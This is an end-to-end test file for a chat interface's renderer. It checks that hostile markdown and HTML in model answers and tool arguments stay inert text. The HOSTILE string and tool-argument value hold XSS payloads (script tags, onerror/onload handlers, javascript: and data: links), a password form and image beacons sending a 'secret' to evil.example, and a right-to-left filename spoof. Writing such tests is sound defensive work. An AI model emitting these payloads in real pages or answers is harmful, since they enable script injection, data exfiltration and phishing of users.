"""What a model writes is text: nothing in it runs, loads or leads astray."""

from playwright.async_api import expect

from tests.e2e.conftest import Browse, Site

HOSTILE = """
<script>window.ran = "script"</script>
<img src="x" onerror="window.ran = 'onerror'">
<iframe src="https://evil.example/"></iframe>
<svg onload="window.ran = 'svg'"></svg>
<style>body { display: none }</style>
<form action="https://evil.example/"><input name="password"></form>

![a beacon](https://evil.example/beacon.png?secret=1)
![another](http://evil.example/beacon.png "title")

[one](javascript:window.ran='link') [two](JaVaScRiPt:window.ran='case') [three](data:text/html,<script>1</script>)
[four](vbscript:msgbox) [five](//evil.example/) <javascript:window.ran='auto'>

[a real link](https://example.com/page)

`code` and **bold**
"""


async def test_hostile_markdown_neither_runs_nor_loads_anything(scripted: Site, browse: Browse) -> None:
    scripted.model.script([{"text": HOSTILE}])
    window = await browse(scripted.url)
    await window.say("Go")
    await expect(window.answers.locator("strong")).to_have_text("bold")
    await expect(window.answers).to_contain_text("[image: a beacon]")
    await expect(
        window.answers.locator("script, img, iframe, svg[onload], style, form, input, object, embed")
    ).to_have_count(0)

    links = window.answers.get_by_role("link")
    addresses = [await link.get_attribute("href") or "" for link in await links.all()]
    assert addresses
    assert all(address.startswith(("https://", "http://", "mailto:")) for address in addresses), addresses
    real = window.answers.get_by_role("link", name="a real link")
    assert {"noopener", "noreferrer", "nofollow"} <= set((await real.get_attribute("rel") or "").split())
    assert await window.page.evaluate("window.ran") is None


async def test_hostile_arguments_and_results_are_text_in_the_card(scripted: Site, browse: Browse) -> None:
    value = '<img src=x onerror="window.ran=1"> ![b](https://evil.example/b.png) \u202egnp.exe'
    scripted.model.script(
        [{"after_tool": False, "calls": [{"name": "journal__record", "arguments": {"value": value}}]}]
    )
    window = await browse(scripted.url)
    await window.connect("Journal")
    await window.say("Record it")
    card = window.card("Record")
    await expect(card).to_contain_text("<img src=x")
    # The sign that turns the rest of a line around is shown, not obeyed.
    await expect(card).not_to_contain_text("\u202e")
    await window.approve("Record")
    await card.get_by_role("button", expanded=False).click()
    await expect(card).to_contain_text("recorded <img src=x")
    await expect(card.locator("img")).to_have_count(0)
    await expect(window.answers.locator("img")).to_have_count(0)
    assert await window.page.evaluate("window.ran") is None
